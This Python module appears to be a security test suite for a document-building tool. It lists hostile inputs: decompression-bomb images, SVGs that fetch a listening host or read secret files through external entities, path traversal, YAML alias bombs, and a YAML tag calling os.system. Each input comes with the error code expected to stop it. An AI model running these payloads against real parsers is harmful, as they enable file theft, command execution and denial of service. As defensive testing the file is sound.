"""Every attack by family: its name, what is planted in `content/birds/`, and the code of the problem it must end in.

`{url}` in a text is an address where someone listens, `{secret}` a file beside the project.
"""

from __future__ import annotations

import gzip
import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, replace

Files = Mapping[str, str | bytes]


@dataclass(frozen=True)
class Attack:
    """What is planted, and the code of the error that stops it; an empty code where it must end in harmless text."""

    family: str
    name: str
    files: Files
    code: str
    slow: bool = False
    """True where it takes seconds: then `make soak` does it."""

    def __str__(self) -> str:
        return f"{self.family}: {self.name}"


def _review(family: str, name: str, text: str | bytes, code: str, **files: str | bytes) -> Attack:
    named = {name.replace("__", "."): data for name, data in files.items()}
    return Attack(family, name, {"review.yaml": text, **named}, code)


def _prose(text: str) -> str:
    return "title: T\nsections:\n- heading: A\n  text: |\n" + "".join(f"    {line}\n" for line in text.split("\n"))


# Pictures

FIGURE = "title: T\nfigures: {a: {src: a.EXT, alt: A, caption: C.}}\n"


def _picture(name: str, data: bytes, extension: str = "png", code: str = "bad-picture") -> Attack:
    return Attack("pictures", name, {"review.yaml": FIGURE.replace("EXT", extension), f"a.{extension}": data}, code)


def chunk(name: bytes, body: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, before: bytes = b"", pixels: bytes | None = None) -> bytes:
    """A PNG of that size in black, unless its packed `pixels` are given."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    packed = zlib.compress(b"\0" * ((width + 1) * height)) if pixels is None else pixels
    return b"\x89PNG\r\n\x1a\n" + head + before + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


BOMB = zlib.compress(b"\0" * 50_000_000)
JPEG_HEAD = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
SCAN = b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00\x12"

PICTURES = (
    _picture("PNG of 60,000 × 60,000 pixels", png(60_000, 60_000, pixels=zlib.compress(b""))),
    _picture("PNG whose pixels unpack to a gigabyte", png(9, 9, pixels=zlib.compress(bytes(800_000_000), 1))),
    _picture("PNG with fewer pixels than it says", png(8000, 9000, pixels=zlib.compress(b"\0" * 9))),
    _picture("PNG with broken pixels", png(9, 9, pixels=b"broken")),
    _picture("PNG with a colour profile of 50 MB", png(9, 9, chunk(b"iCCP", b"x\0\0" + BOMB))),
    _picture("PNG with a text of 50 MB", png(9, 9, chunk(b"zTXt", b"x\0\0" + BOMB))),
    _picture("PNG with an international text of 50 MB", png(9, 9, chunk(b"iTXt", b"x\0\1\0\0\0" + BOMB))),
    _picture("PNG that ends in the midst", png(9, 9)[:-20]),
    _picture("JPEG of 65,535 × 65,535 pixels", JPEG_HEAD + SCAN + b"\xff\xd9", "jpg"),
    _picture("JPEG of a thousand scans", JPEG_HEAD.replace(b"\xff\xff\xff\xff", b"\0\x09\0\x09") + SCAN * 1000, "jpg"),
    _picture("GIF", b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\1\0\0;", "gif"),
    _picture(
        "PostScript that opens a file", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n", "eps"
    ),
    _picture("SVGZ bomb", gzip.compress(b"<svg>" + b" " * 50_000_000), "svgz"),
    _picture("PDF with JavaScript", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "pdf"),
)

# SVG

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
    '<rect width="9" height="9"/>{}</svg>'
)
EVIL_SVG = {
    "image by http": '<image href="{url}/x.png" width="5" height="5"/>',
    "image by xlink": '<image xlink:href="{url}/x.png" width="5" height="5"/>',
    "image by ftp": '<image href="ftp://127.0.0.1/x.png" width="5" height="5"/>',
    "image by file": '<image href="file://{secret}" width="5" height="5"/>',
    "image by an absolute path": '<image href="{secret}" width="5" height="5"/>',
    "image by ../": '<image href="../../../secret.txt" width="5" height="5"/>',
    "image by %2e%2e": '<image href="%2e%2e/%2e%2e/%2e%2e/secret.txt" width="5" height="5"/>',
    "image without a scheme": '<image href="//127.0.0.1/x.png" width="5" height="5"/>',
    "image with a line break in its scheme": '<image href="ht&#10;tp://127.0.0.1/x.png" width="5" height="5"/>',
    "image that is SVG within": '<image href="data:image/svg+xml,%3Csvg/%3E" width="5" height="5"/>',
    "image with xml:base": '<g xml:base="{url}/"><image href="x.png" width="5" height="5"/></g>',
    "feImage": '<filter id="f"><feImage href="{url}/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    "use by http": '<use href="{url}/x.svg#a"/>',
    "use of a file": '<use href="file://{secret}#a"/>',
    "use of itself": '<g id="a"><use href="#a"/></g>',
    "uses that double thirty times": "".join(
        f'<g id="a{n}"><use href="#a{n + 1}"/><use href="#a{n + 1}"/></g>' for n in range(30)
    )
    + '<g id="a30"><rect width="1" height="1"/></g>',
    "patterns in patterns": "".join(
        f'<pattern id="p{n}" width="1" height="1">' + f'<rect fill="url(#p{n + 1})"/>' * 9 + "</pattern>"
        for n in range(9)
    )
    + '<pattern id="p9"/>',
    "patterns by a style sheet": "<style>"
    + "".join(f".c{n} {{fill: url(#p{n})}} " for n in range(9))
    + "</style>"
    + "".join(f'<pattern id="p{n}">' + f'<rect class="c{n + 1}"/>' * 9 + "</pattern>" for n in range(9)),
    "paint by http": '<rect fill="url({url}/x.svg#a)" width="9" height="9"/>',
    "style by http": '<rect style="fill: url({url}/x.svg#a)" width="9" height="9"/>',
    "style with an escape": '<rect style="fill: u\\72l({url}/x.svg#a)" width="9" height="9"/>',
    "style with a comment": '<rect style="fill: ur/**/l({url}/x.svg#a)" width="9" height="9"/>',
    "style sheet that imports": "<style>@import '{url}/x.css';</style>",
    "style sheet with a face": "<style>@font-face {font-family: a; src: url({url}/x.woff)}</style>",
    "foreignObject": '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{url}/x.png"/></foreignObject>',
    "script": "<script>fetch('{url}')</script>",
    "event handler": '<rect onclick="fetch(\'{url}\')" width="9" height="9"/>',
    "javascript link": '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
    "animated address": '<image><animate attributeName="href" to="{url}/x.png"/></image>',
    "XInclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>',
    "turbulence": '<filter id="f"><feTurbulence numOctaves="99999999"/></filter><rect filter="url(#f)"/>',
    "100,001 elements": "<g/>" * 100_001,
    "10,000 levels": "<g>" * 10_000 + "</g>" * 10_000,
}
HEADED_SVG = {
    "external style sheet": '<?xml-stylesheet href="{url}/x.css" type="text/css"?>' + SVG,
    "external entity": '<!DOCTYPE svg [<!ENTITY e SYSTEM "file://{secret}">]>' + SVG.format("<text>&e;</text>"),
    "parameter entity": '<!DOCTYPE svg [<!ENTITY % e SYSTEM "{url}/x.dtd"> %e;]>' + SVG,
    "billion laughs": '<!DOCTYPE svg [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
    + SVG.format("<text>&j;</text>"),
    "endless sides": '<svg xmlns="http://www.w3.org/2000/svg" width="1e300" height="1e300"/>',
    "no number for sides": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan inf"/>',
    "another namespace": '<svg xmlns="http://www.w3.org/1999/xhtml"><img src="{url}/x.png"/></svg>',
    "UTF-7": '<?xml version="1.0" encoding="UTF-7"?>' + SVG,
}
SVGS = tuple(
    Attack("SVG", name, {"review.yaml": FIGURE.replace("EXT", "svg"), "a.svg": text}, "bad-picture")
    for name, text in [*((name, SVG.replace("{}", body)) for name, body in EVIL_SVG.items()), *HEADED_SVG.items()]
)

# Paths and addresses

OUTSIDE = {
    "../": ("../../../secret.txt", "outside-project"),
    "an absolute path": ("{secret}", "outside-project"),
    "a symbolic link": ("link.png", "outside-project"),
    "a folder that is a link": ("folder/secret.txt", "outside-project"),
    "%2e%2e": ("%2e%2e/%2e%2e/%2e%2e/secret.txt", "no-such-file"),
    "file:": ("file://{secret}", "no-such-file"),
    "http:": ("{url}/x.png", "no-such-file"),
    "ftp:": ("ftp://127.0.0.1/x.png", "no-such-file"),
    "data:": ("data:image/png;base64,AAAA", "no-such-file"),
    "//host": ("//127.0.0.1/x.png", "no-such-file"),
    "a device": ("/dev/zero", "outside-project"),
    "a pipe": ("pipe", "not-a-file"),
}
PATHS = tuple(
    Attack("paths", f"{what} by {name}", {"review.yaml": text.replace("PATH", path)}, code if what == "figure" else "")
    for what, text in {
        "figure": "title: T\nfigures: {a: {src: 'PATH', alt: A, caption: C.}}\n",
        "CSV": "title: T\ntables: {a: {caption: C, columns: [a], csv: 'PATH'}}\n",
        "bibliography": "title: T\nbibliography: 'PATH'\n",
        "style": "title: T\nbibliography: references.yaml\ncitation-style: 'PATH.csl'\nabstract: '[@falk]'\n",
    }.items()
    for name, (path, code) in OUTSIDE.items()
)

# The notation

LAUGHS = "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9))
YAML = (
    _review("YAML", "alias bomb", "a: &a [x, x, x]\n" + LAUGHS, "too-large"),
    _review("YAML", "a long text repeated", f"a: &a {'b ' * 40_000}\nc: [{', '.join(['*a'] * 5_000)}]\n", "too-large"),
    _review("YAML", "alias of itself", "a: &a [*a]\n", "broken-yaml"),
    _review("YAML", "10,000 lists in one another", "title: " + "[" * 10_000, "too-deep"),
    _review("YAML", "100,000 maps in one another", "title: " + "{a: " * 100_000, "too-deep"),
    _review("YAML", "100 MB of text", b"title: " + b"a" * 105_000_000, "too-large"),
    _review("YAML", "40 MB of text", b"title: " + b"a " * 20_000_000, "too-large"),
    _review("YAML", "190,000 values", "title: T\nkey-points:\n" + "- a\n" * 190_000, "too-large"),
    _review("YAML", "20,000 unknown keys", "title: T\n" + "".join(f"k{n}: 1\n" for n in range(20_000)), "unknown-key"),
    _review("YAML", "NUL", "title: a\0b\n", "bad-character"),
    _review("YAML", "half a surrogate", 'title: "\\ud800"\n', "broken-yaml"),
    _review("YAML", "no UTF-8", b"title: \xff\xfe\n", "bad-encoding"),
    _review("YAML", "Python objects", "title: !!python/object/apply:os.system ['touch x']\n", "tag"),
    _review("YAML", "merge keys", "a: &a {b: c}\n<<: *a\ntitle: T\n", "merge-key"),
    _review("YAML", "10,000 citations of nothing", _prose("x " + "[@a" * 10_000), "unknown-citation"),
)

# Formulas

FORMULAS = tuple(
    _review("LaTeX", name, _prose(f"a ${tex}$ b."), "formula-too-long")
    for name, tex in {
        "groups in one another": "{" * 5_000 + "x" + "}" * 5_000,
        "fractions in one another": "\\frac{" * 30 + "1" + "}{2}" * 30,
        "roots in one another": "\\sqrt{" * 30 + "1" + "}" * 30,
        "exponents in one another": "x^{" * 30 + "2" + "}" * 30,
        "brackets in one another": "\\left(" * 20 + "x" + "\\right)" * 20,
        "environments without end": "\\begin{matrix}" * 100,
        "a matrix of 3,000 rows": "\\begin{matrix}" + "1&2\\\\" * 3_000 + "\\end{matrix}",
        "90,000 characters": "x+" * 45_000 + "x",
    }.items()
)

# CSV

TABLE = "title: T\ntables: {a: {caption: C, columns: [a, b], csv: t.csv}}\n"
CSV = (
    _review("CSV", "a field of 200,000 characters", TABLE, "broken-csv", t__csv="a,b\n" + "x" * 200_000 + ",1\n"),
    _review("CSV", "a quotation that never ends", TABLE, "broken-csv", t__csv='a,b\n"' + "x\n" * 100_000),
    _review("CSV", "rows of other lengths", TABLE, "uneven-row", t__csv="a,b\n1\n1,2,3\n"),
    _review("CSV", "40,000 cells", TABLE, "too-large", t__csv="a,b\n" + "1,2\n" * 20_000),
    _review("CSV", "20,000 rows of other lengths", TABLE, "uneven-row", t__csv="a,b\n" + "1\n" * 20_000),
    _review("CSV", "a row of 100,000 cells", TABLE, "uneven-row", t__csv="a,b\n" + "1," * 100_000 + "\n"),
    _review("CSV", "no UTF-8", TABLE, "no-such-file", t__csv=b"a,b\n\xff,1\n"),
)

# Citation styles

CSL = (
    '<style xmlns="http://purl.org/net/xbiblio/csl" class="in-text" version="1.0"><info><title>H</title><id>h</id>'
    "<updated>2026-01-01T00:00:00+00:00</updated></info>{}<citation><layout>{}</layout></citation></style>"
)
STYLED = "title: T\nbibliography: references.yaml\ncitation-style: s.csl\nabstract: '[@falk]'\n"
TITLE = '<text variable="title"/>'
STYLES = tuple(
    _review("citation styles", name, STYLED, code, s__csl=text)
    for name, text, code in (
        (
            "a macro that calls itself",
            CSL.format('<macro name="a"><text macro="a"/></macro>', '<text macro="a"/>'),
            "broken-style",
        ),
        (
            "macros that double forty times",
            CSL.format(
                "".join(f'<macro name="m{n}">' + f'<text macro="m{n + 1}"/>' * 2 + "</macro>" for n in range(40))
                + f'<macro name="m40">{TITLE}</macro>',
                '<text macro="m0"/>',
            ),
            "broken-style",
        ),
        (
            "10,000 groups in one another",
            CSL.format("", "<group>" * 10_000 + TITLE + "</group>" * 10_000),
            "broken-style",
        ),
        ("20 MB", CSL.format("<!--" + "x" * 20_000_000 + "-->", TITLE), "broken-style"),
        ("billion laughs", HEADED_SVG["billion laughs"].partition("<svg")[0] + CSL.format("", "&j;"), "broken-style"),
        ("no style", "<html/>", "broken-style"),
    )
)

# Profiles of journals, which a project may have of its own

PROFILE = "../../templates/journals/hostile.yaml"
PROFILES = tuple(
    Attack("journals", name, {"review.yaml": "title: T\njournal: hostile\n", PROFILE: text}, code)
    for name, text, code in (
        ("10,000 lists in one another", "name: " + "[" * 10_000, "too-deep"),
        ("alias bomb", "a: &a [x, x, x]\n" + LAUGHS, "journal-profile"),
        ("alias of itself", "name: &a [*a]\n", "journal-profile"),
        ("Python objects", "name: !!python/object/apply:os.system ['touch x']\n", "broken-yaml"),
        ("a profile that extends itself", "name: N\nextends: hostile\n", "journal-profile"),
        ("no map", "5\n", "journal-profile"),
    )
)

SLOW = {
    *("YAML: 10,000 citations of nothing", "YAML: 20,000 unknown keys", "YAML: 190,000 values", "YAML: 100 MB of text"),
    *("SVG: 100,001 elements", "pictures: PNG whose pixels unpack to a gigabyte"),
}
ATTACKS = tuple(
    replace(attack, slow=str(attack) in SLOW)
    for attack in (*PICTURES, *SVGS, *PATHS, *YAML, *FORMULAS, *CSV, *STYLES, *PROFILES)
)
